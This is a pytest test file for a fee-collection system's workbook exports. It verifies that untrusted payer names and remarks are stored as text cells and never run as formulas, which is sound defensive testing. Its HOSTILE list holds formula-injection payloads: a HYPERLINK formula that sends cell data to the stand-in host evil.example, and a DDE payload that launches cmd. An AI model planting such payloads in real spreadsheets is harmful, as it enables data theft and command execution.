"""Text from people and bank files reaches workbooks as text: opened in a spreadsheet program, a
payer name or a resolution reason written as a formula must stay what it says, never run."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from feecollect.reconcile.models import ReconciliationException
from feecollect.reconcile.report import overdue_workbook, reconciliation_workbook
from feecollect.xlsx import add_sheet, new_workbook, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_reads_as_a_formula_is_written_as_a_string_cell(text: str) -> None:
    workbook = new_workbook()
    add_sheet(workbook, "明细", ("缴款人",), [(text,)], set())
    (cell,) = [c for c in _cells(workbook_bytes(workbook)) if c.row == 2]
    assert cell.data_type == "s"
    assert cell.value.lstrip() == text.lstrip()  # XML reads a leading CR back as LF


def test_control_characters_a_workbook_cannot_carry_are_dropped_instead_of_failing_the_export() -> None:
    workbook = new_workbook()
    add_sheet(workbook, "明细", ("摘要",), [("缴款\x01码\x1b",)], set())
    assert [c.value for c in _cells(workbook_bytes(workbook)) if c.row == 2] == ["缴款码"]


def test_reconciliation_and_overdue_reports_hold_no_formula_from_untrusted_text() -> None:
    exception = ReconciliationException(
        id=7,
        key="k",
        exception_class="unidentified_credit",
        business_date=date(2026, 11, 20),
        amount_fen=12_300,
        department_code=None,
        evidence={"statement_line": 3, "payer": HOSTILE[0], "remark": HOSTILE[1]},
        status="resolved",
        resolved_by="finance",
        resolution=HOSTILE[0],
    )
    summary = {"date": "2026-11-20", "matched": 0, "exceptions": {"unidentified_credit": 1}}
    overdue = [("43032126000000000171", 5_000, date(2026, 11, 1), "ZRZY", HOSTILE[3], "C-1", "issued")]
    for content in (
        reconciliation_workbook(summary, [exception]),
        overdue_workbook(overdue, date(2026, 11, 20), {"ZRZY": "自然资源局"}),
    ):
        cells = _cells(content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert texts & set(HOSTILE)
